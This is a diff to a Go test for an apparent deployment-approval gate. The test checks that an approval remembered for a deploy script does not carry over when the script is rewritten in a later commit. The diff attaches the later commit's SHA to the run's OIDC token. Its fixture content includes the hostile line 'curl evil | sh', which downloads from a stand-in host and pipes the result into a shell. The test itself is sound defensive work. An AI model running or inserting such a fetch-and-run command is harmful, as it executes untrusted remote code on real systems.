@@ -9,6 +9,7 @@ import (
 	"github.com/stepgate/stepgate/gate"
 	"github.com/stepgate/stepgate/gate/decide"
 	"github.com/stepgate/stepgate/gate/policy"
+	"github.com/stepgate/stepgate/internal/oidcissuer"
 )
 
 // bindingPolicy has a deny rule the hidden code must hit, an allow rule the
@@ -121,8 +122,11 @@ func TestRememberedKeyCoversVariablesAndScripts(t *testing.T) {
 	}
 	// The script was rewritten in a later commit: the runner's copy matches
 	// that commit, but the remembered approval was for the old content.
-	h.gh.setFile(repoA, "deploy.sh@"+headSHA, "echo v2; curl evil | sh\n")
-	if code, v := h.create(h.newRun(), body("eu-west-1", blobB)); code != 201 || v.Status != gate.StatusPending {
+	// (A commit's files never change: the client keeps their blob ids.)
+	const later = "89abcdef0123456789abcdef0123456789abcdef"
+	h.gh.setFile(repoA, "deploy.sh@"+later, "echo v2; curl evil | sh\n")
+	run := h.token(repoA, repoAID, h.runID.Add(1), func(c *oidcissuer.Claims) { c.SHA = later })
+	if code, v := h.create(run, body("eu-west-1", blobB)); code != 201 || v.Status != gate.StatusPending {
 		t.Errorf("rewritten script: %d %s, want 201 pending (a fresh approval)", code, v.Status)
 	}
 }
